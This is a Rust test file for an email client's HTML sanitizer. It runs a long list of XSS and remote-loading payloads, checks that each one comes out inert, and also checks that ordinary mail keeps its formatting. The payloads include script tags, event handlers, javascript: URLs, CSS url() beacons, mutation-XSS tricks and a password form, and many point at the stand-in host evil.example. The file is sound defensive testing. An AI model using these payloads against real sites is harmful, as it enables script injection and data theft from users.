//! Tests of `sanitize`.

use html5ever::tokenizer::{Tag, Token, TokenSinkResult};

use super::*;
use crate::html_tokens::{TokenReader, raw_state, read_tokens};

fn embedded() -> BTreeMap<String, String> {
    BTreeMap::from([
        ("logo@x".to_owned(), "mailview://localhost/t/3".to_owned()),
        ("win@x".to_owned(), "http://mailview.localhost/t/4".to_owned()),
        ("bad@x".to_owned(), "https://evil.example/p.gif".to_owned()),
    ])
}

fn clean_html(html: &str) -> Sanitized {
    sanitize_html(html, &embedded(), &Limits::default())
}

/// Collects every tag of a document, looking at it as a browser would: raw text elements are raw text.
#[derive(Default)]
struct Tags(Vec<Tag>);

impl TokenReader for Tags {
    fn token(&mut self, token: Token) -> TokenSinkResult<()> {
        if let Token::TagToken(tag) = token {
            let state = raw_state(&tag);
            self.0.push(tag);
            return state;
        }
        TokenSinkResult::Continue
    }
}

/// Fails on anything that could run, load, submit, or change where the document's URLs point.
fn assert_inert(payload: &str, html: &str) {
    for tag in read_tokens(html, Tags::default()).0.0 {
        let name = &*tag.name;
        assert!(TAGS.contains(&name), "<{name}> from {payload:?}: {html}");
        for attribute in &tag.attrs {
            let (key, value) = (&*attribute.name.local, &*attribute.value);
            let specific = SPECIFIC.iter().any(|(tag, names)| *tag == name && names.contains(&key));
            assert!(
                specific || GENERIC.contains(&key) || (name == "a" && key == "rel"),
                "{name} {key} from {payload:?}: {html}"
            );
            match (name, key) {
                (_, "style") => assert!(
                    !value.contains(['\\', '@', '<']) && !value.to_lowercase().contains("url"),
                    "{payload:?}: {value}"
                ),
                ("a", "href") => assert!(
                    ["http:", "https:", "mailto:"].iter().any(|s| value.starts_with(s))
                        && !value.contains("localhost"),
                    "{payload:?}: {value}"
                ),
                ("img", "src") => {
                    assert!(
                        value.starts_with("mailview:")
                            || value.starts_with("http://mailview.localhost/")
                            || value.starts_with("data:image/")
                    );
                }
                _ => {}
            }
        }
    }
}

/// Payloads by what they try. Each must come out inert, and the same when sanitised again.
const PAYLOADS: &[&str] = &[
    // Scripts, however written.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    // Event handlers.
    "<img src=x onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img/src/onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<p onmouseover\n=\nalert(1)>x",
    "<details open ontoggle=alert(1)>x",
    "<marquee onstart=alert(1)>x",
    "<a href=https://x.example ONCLICK=alert(1)>x</a>",
    "<div style=color:red onpointerenter=alert(1)>x",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    // Schemes.
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='\u{2028}javascript:alert(1)'>x</a>",
    "<a href='\u{a0}javascript:alert(1)'>x</a>",
    "<a href='\u{1}javascript:alert(1)'>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href=file:///etc/passwd>x</a>",
    "<a href=blob:https://x.example/1>x</a>",
    "<a href=mailview://localhost/t/9>x</a>",
    "<a href=http://mailview.localhost/t/9>x</a>",
    "<a href=http://tauri.localhost/x>x</a>",
    "<a href=http://ipc.localhost/x>x</a>",
    "<a href=tauri://localhost>x</a>",
    "<a href=ipc://localhost>x</a>",
    "<a href=//evil.example>x</a>",
    "<a href=/etc>x</a>",
    "<a href='#top'>x</a>",
    "<a href='?x'>x</a>",
    "<a href='https:evil.example'>x</a>",
    "<a href='https://'>x</a>",
    "<a xlink:href=javascript:alert(1)>x</a>",
    "<a href=https://x.example target=_top ping=https://evil.example download>x</a>",
    "<area href=javascript:alert(1)>",
    // Images and whatever else loads.
    "<img src=https://evil.example/p.gif>",
    "<img src=//evil.example/p.gif>",
    "<img src='cid:unknown'>",
    "<img src='cid:bad@x'>",
    "<img srcset='https://evil.example/p.gif 2x'>",
    "<img src=x lowsrc=https://evil.example dynsrc=https://evil.example>",
    "<picture><source srcset=https://evil.example/p.gif><img></picture>",
    "<image src=https://evil.example/p.gif>",
    "<input type=image src=https://evil.example/p.gif>",
    "<table background=https://evil.example/p.gif><td background=//evil.example>x",
    "<body background=https://evil.example/p.gif>",
    "<video poster=https://evil.example/p.gif src=https://evil.example/v></video>",
    "<audio src=https://evil.example/a autoplay></audio>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src='data:text/html,x'>",
    "<img src='data:image/png;base64,AA\"onerror=alert(1)'>",
    "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    "<applet code=x archive=https://evil.example></applet>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<portal src=https://evil.example></portal>",
    "<bgsound src=https://evil.example>",
    "<layer src=https://evil.example></layer>",
    // The head.
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<meta http-equiv=Content-Security-Policy content=''>",
    "<meta charset=utf-7>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<link rel=preconnect href=//evil.example><link rel=prefetch href=//evil.example>",
    "<html manifest=https://evil.example>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "<!DOCTYPE html [<!ENTITY x \"<script>alert(1)</script>\">]>&x;",
    // Forms.
    "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<form id=f></form><button form=f formaction=https://evil.example>x",
    "<isindex action=javascript:alert(1) type=image>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<textarea autofocus onfocus=alert(1)>x</textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    // CSS.
    "<style>@import url(https://evil.example)</style>",
    "<style>*{background:url(https://evil.example)}",
    "<p style='background:url(https://evil.example/p.gif)'>x",
    "<p style='background:u\\72 l(https://evil.example/p.gif)'>x",
    "<p style='background:url(\"javascript:alert(1)\")'>x",
    "<p style='background-image:image-set(\"https://evil.example\" 1x)'>x",
    "<p style='width:expression(alert(1))'>x",
    "<p style='behavior:url(#default#time2)'>x",
    "<p style='-moz-binding:url(//evil.example)'>x",
    "<p style='position:fixed;top:0;left:0;z-index:9;width:100%'>x",
    "<p style='content:url(//evil.example)'>x",
    "<p style='color:red;}</style><script>alert(1)</script>'>x",
    "<p style='color:red/*;*/;background:src(\"https://evil.example\")'>x",
    "<p style='--x:url(//evil.example);background:var(--x)'>x",
    "<p style='font-family:\"x;background:url(//evil.example)\"'>x",
    "<p style='color:attr(title)' title='https://evil.example'>x",
    "<p style=\"color:red;\u{0}background:url(//evil.example)\">x",
    "<div style='width:1px;filter:url(//evil.example#x)'>x",
    "<li style=list-style-image:url(//evil.example)>x",
    "<font color='expression(alert(1))'>x</font>",
    // Foreign content and mutation.
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><use href=https://evil.example#x></svg>",
    "<svg><foreignObject><iframe src=https://evil.example></iframe></foreignObject></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><style><!--</style><img src=x onerror=alert(1)>--></style></svg>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math href=javascript:alert(1)>x</math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<table><svg><td><img src=x onerror=alert(1)></td></svg></table>",
    "<p><svg><desc><b></p><img src=x onerror=alert(1)>",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<noframes><img title=\"</noframes><img src=x onerror=alert(1)>\">",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<select><template><style></select><img src=x onerror=alert(1)>",
    "<select><selectedcontent><script>alert(1)</script></select>",
    "<a><table><a><img src=x onerror=alert(1)></a></table></a>",
    "<b><p><b><p><i><p></b><script>alert(1)</script>",
    "<custom-element onclick=alert(1) is=x>x</custom-element>",
    "<slot name=x onslotchange=alert(1)>",
    // Comments, CDATA, NUL and other debris.
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--<img title=\"--><img src=x onerror=alert(1)>\">",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<img src=x on\0error=alert(1)>",
    "\0<script>alert(1)</script>",
    "<a title=\"`><img src=x onerror=alert(1)>\">x",
    "<p title='&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;'>x",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<img alt=\"</textarea><script>alert(1)</script>\">",
    "<p id=x name=y class=z data-x=1 aria-label=x contenteditable tabindex=1 accesskey=x slot=x part=x popover>x",
    "<dialog open>x</dialog>",
    "<div popover=auto popovertarget=x>x</div>",
    "<bdo dir=rtl>x</bdo>",
    "</p></div></body></html><script>alert(1)</script>",
    "<",
    "<a",
    "<a href=\"",
    "&#0;&#x110000;&notanentity;",
];

#[test]
fn every_payload_comes_out_inert_and_stays_so() {
    for payload in PAYLOADS {
        for wrapped in [
            (*payload).to_owned(),
            format!("<div><p title=\"{payload}\">{payload}</p></div>"),
            format!("<table><tr>{payload}<td>{payload}"),
        ] {
            let once = clean_html(&wrapped).html;
            assert_inert(&wrapped, &once);
            assert_eq!(clean_html(&once).html, once, "not stable: {wrapped:?}");
        }
    }
}

#[test]
fn pairs_of_payloads_come_out_inert() {
    // Two halves can be worse than one: what the first leaves open takes in the second.
    for first in PAYLOADS.iter().step_by(3) {
        for second in PAYLOADS.iter().step_by(2) {
            let both = format!("{first}{second}");
            let once = clean_html(&both).html;
            assert_inert(&both, &once);
            assert_eq!(clean_html(&once).html, once, "not stable: {both:?}");
        }
    }
}

#[test]
fn the_checker_finds_what_it_looks_for() {
    for bad in [
        "<script>x</script>",
        "<p onclick=x>",
        "<a href=javascript:x>y</a>",
        "<img src=https://x.example>",
        "<p style='a:url(x)'>",
        "<svg>",
    ] {
        assert!(panic::catch_unwind(|| assert_inert(bad, bad)).is_err(), "{bad}");
    }
}

#[test]
fn ordinary_mail_keeps_its_look() {
    let html = "<h1 style=\"color:#036;font-family:&quot;Segoe UI&quot; , Arial\">Clinic</h1><table width=\"600\" cellpadding=\"0\"><tbody><tr>\
                <td align=\"center\" bgcolor=\"#ffffff\" style=\"padding:8px 4px\"><b>Dear</b> <i>Mei</i></td></tr></tbody></table><ul><li>one</li></ul>";
    let clean = clean_html(html);
    assert_eq!(clean.html, html);
    assert!(!clean.text_only && !clean.truncated);
    assert_eq!(clean.remote_blocked.total(), 0);
}

#[test]
fn links_keep_their_target_and_nothing_else() {
    let clean = clean_html(
        "<a href=\"HTTPS://Clinic.Example/a b?x=1&amp;y\" target=\"_blank\" rel=\"opener\" title=\"t\">x</a>",
    );
    assert_eq!(
        clean.html,
        "<a href=\"https://clinic.example/a%20b?x=1&amp;y\" title=\"t\" rel=\"noopener noreferrer\">x</a>"
    );
    assert_eq!(
        clean
            .links
            .iter()
            .map(|link| (link.host.as_str(), link.looks_different))
            .collect::<Vec<_>>(),
        [("clinic.example", false)]
    );
    assert!(
        clean_html("<a href='mailto:a@b.example?subject=x'>y</a>")
            .html
            .contains("mailto:a@b.example")
    );
}

#[test]
fn own_images_are_shown_and_remote_ones_counted() {
    let clean = clean_html(
        "<img src=\"cid:logo@x\" alt=\"Logo\"><img src=\"CID:logo%40x\"><img src='cid:win@x'><img src=\"https://t.example/1.gif\" alt=\"Pixel\">\
         <p style=\"background:url(https://t.example/2)\">x</p><iframe src=https://t.example/3></iframe>",
    );
    assert_eq!(
        clean.html,
        "<img src=\"mailview://localhost/t/3\" alt=\"Logo\"><img src=\"mailview://localhost/t/3\"><img src=\"http://mailview.localhost/t/4\">\
         <img alt=\"Pixel\"><p>x</p>"
    );
    assert_eq!(clean.images, ["logo@x", "win@x"]);
    assert_eq!(clean.remote_blocked, RemoteBlocked { images: 1, styles: 1, other: 1 });
    // A stranger can't name a URL of the frame.
    assert_eq!(clean_html("<img src=mailview://localhost/t/9>").html, "<img>");
}

#[test]
fn own_images_may_be_given_as_data() {
    let data = format!("data:image/webp;base64,{}", "A".repeat(1_000_000));
    let svg = "data:image/svg+xml;base64,PHN2Zz4=".to_owned();
    let embedded = BTreeMap::from([("a@x".to_owned(), data.clone()), ("b@x".to_owned(), svg)]);
    let clean =
        sanitize_html("<img src='cid:a@x'><img src='cid:b@x'>", &embedded, &Limits::default());
    assert_eq!(clean.html, format!("<img src=\"{data}\"><img>"));
    assert_eq!(clean.images, ["a@x"]);
    // Naming one image a thousand times does not make a gigabyte.
    let limits = Limits { image_bytes: 2_500_000, ..Limits::default() };
    let many = sanitize_html(&"<img src='cid:a@x'>".repeat(1_000), &embedded, &limits);
    assert!(many.html.len() < 2_600_000 && many.html.ends_with("<img>"));
}

#[test]
fn small_data_images_stay_and_large_ones_go() {
    let small = "<img src=\"data:image/png;base64,iVBORw0KGgo=\">";
    assert_eq!(clean_html(small).html, small);
    let large = format!("<img src=\"data:image/png;base64,{}\">", "A".repeat(70_000));
    assert_eq!(clean_html(&large).html, "<img>");
}

#[test]
fn too_much_is_shown_as_text() {
    for deep in
        ["<b>".repeat(30_000), "<div><table><tr><td>".repeat(10_000), "<p><font>".repeat(10_000)]
    {
        let clean = clean_html(&format!("{deep}hello &amp; goodbye"));
        assert!(clean.text_only);
        assert!(clean.html.ends_with("hello &amp; goodbye</div>"), "{}", clean.html);
        assert_inert("deep", &clean.html);
    }
    let small = Limits { text_bytes: 10, ..Limits::default() };
    let cut = sanitize_html("<p>ääääääääää</p>", &BTreeMap::new(), &small);
    assert!(cut.truncated && cut.html.starts_with("<p>ää"), "{}", cut.html);
}
